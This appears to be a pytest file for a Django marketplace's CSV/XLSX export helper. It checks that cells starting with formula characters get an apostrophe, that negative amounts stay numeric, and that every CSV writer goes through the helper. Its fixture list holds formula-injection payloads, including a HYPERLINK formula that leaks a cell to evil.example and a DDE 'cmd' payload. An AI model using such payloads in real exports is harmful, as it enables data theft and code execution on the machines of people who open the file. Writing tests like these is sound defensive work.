"""Spreadsheet formula injection: text we write to CSV/XLSX never starts like a formula; numbers stay numbers."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from market.core.spreadsheet import FORMULA_TRIGGERS, csv_writer, spreadsheet_cell
from market.payments.models import Payout, PayoutBatch
from tests.factories import FirmFactory

REPO = Path(__file__).resolve().parents[2]

FORMULA_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&C2,"지급 확인")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULA_NAMES)
def test_text_starting_like_a_formula_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["두레 협동조합", "Dure Coop", "", "1-2-3 빵집", "a=b", None, 0, 12000])
def test_other_values_are_written_as_they_are(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("amount", [-5000, Decimal("-12.50"), -0.5])
def test_negative_numbers_stay_numbers(amount):
    # A refund booked against a firm is a negative amount the operator must be able to sum.
    assert spreadsheet_cell(amount) == amount
    out = io.StringIO()
    csv_writer(out).writerow([amount])
    assert out.getvalue().strip() == str(amount)
    # The same characters as text would be escaped: the rule is about the type, not the look.
    assert spreadsheet_cell(str(amount)) == f"'{amount}"


def test_every_trigger_is_covered():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.django_db
def test_the_payout_csv_escapes_a_firm_named_like_a_formula(operator_client):
    batch = PayoutBatch.objects.create(total=0)
    firms = [FirmFactory(name=name) for name in FORMULA_NAMES]
    for amount, firm in enumerate(firms, start=1):
        Payout.objects.create(batch=batch, firm=firm, amount=amount * 10_000)
    response = operator_client.get(f"/api/v1/operator/payout-batches/{batch.pk}/csv/")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["firm_name"] for row in rows] == ["'" + name for name in FORMULA_NAMES]
    assert [row["amount_krw"] for row in rows] == [str(n * 10_000) for n in range(1, len(firms) + 1)]
    assert all(not row[column].startswith(FORMULA_TRIGGERS) for row in rows for column in row)


def test_no_csv_is_written_around_the_helper():
    """Every CSV writer goes through market/core/spreadsheet.py, so the next export is safe as well."""
    helper = REPO / "market" / "core" / "spreadsheet.py"
    writers = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl|xlsxwriter")
    offenders = [
        str(path.relative_to(REPO))
        for package in ("market", "api", "search")
        for path in (REPO / package).rglob("*.py")
        if path != helper and writers.search(path.read_text())
    ]
    assert offenders == []
